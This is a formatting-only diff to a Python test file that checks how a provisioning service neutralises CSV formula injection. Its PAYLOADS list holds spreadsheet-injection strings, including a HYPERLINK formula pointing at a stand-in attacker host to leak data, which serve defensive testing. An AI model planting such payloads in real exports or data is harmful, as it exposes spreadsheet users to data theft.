@@ -26,8 +26,20 @@ from provisiond.protocols.csv_cells import (
 from provisiond.services.hashing import new_split_token, new_split_tokens
 from provisiond.services.ids import canonical, new_id_hexes
 
-PAYLOADS = ['=HYPERLINK("https://evil.example/?leak","open")', "@SUM(1+1)", "+cmd", "-2+3",
-            "\t=1", "\r=1", "=1+1", "-", "+", "@", "'=1", "''-1"]
+PAYLOADS = [
+    '=HYPERLINK("https://evil.example/?leak","open")',
+    "@SUM(1+1)",
+    "+cmd",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+    "=1+1",
+    "-",
+    "+",
+    "@",
+    "'=1",
+    "''-1",
+]
 
 
 def read(text: str) -> list[list[str]]:
@@ -51,8 +63,10 @@ def test_a_formula_gets_a_quote_in_front_and_is_quoted(payload: str) -> None:
     assert restore(parsed[1]) == payload
 
 
-@pytest.mark.parametrize("value", ["", "plain", "a,b", 'say "hi"', "two\nlines", " =1",
-                                   "'quoted", "x=1", "1-2", "O'Brien"])
+@pytest.mark.parametrize(
+    "value",
+    ["", "plain", "a,b", 'say "hi"', "two\nlines", " =1", "'quoted", "x=1", "1-2", "O'Brien"],
+)
 def test_other_cells_are_written_as_the_csv_module_writes_them(value: str) -> None:
     assert not is_risky(value)
     assert neutralise(value) == restore(value) == value
@@ -99,6 +113,11 @@ def test_the_ids_and_secrets_of_an_import_need_no_quote() -> None:
     assert all(int(h[:2], 16) < 0x04 for h in ids)  # milliseconds since 1970, before 2109
     tokens = [t for t, _ in new_split_tokens(ids)]
     codes = [new_claim_code() for _ in range(2_000)]
-    values = [*tokens, *codes, *(canonical(h) for h in ids), *(t.value for t in CredentialType),
-              LoRaWanCode("70B3D57ED0000000", "0004A30B001C0530", "00000000").render()]
+    values = [
+        *tokens,
+        *codes,
+        *(canonical(h) for h in ids),
+        *(t.value for t in CredentialType),
+        LoRaWanCode("70B3D57ED0000000", "0004A30B001C0530", "00000000").render(),
+    ]
     assert not [v for v in values if is_risky(v) or v[:1] == "'"]
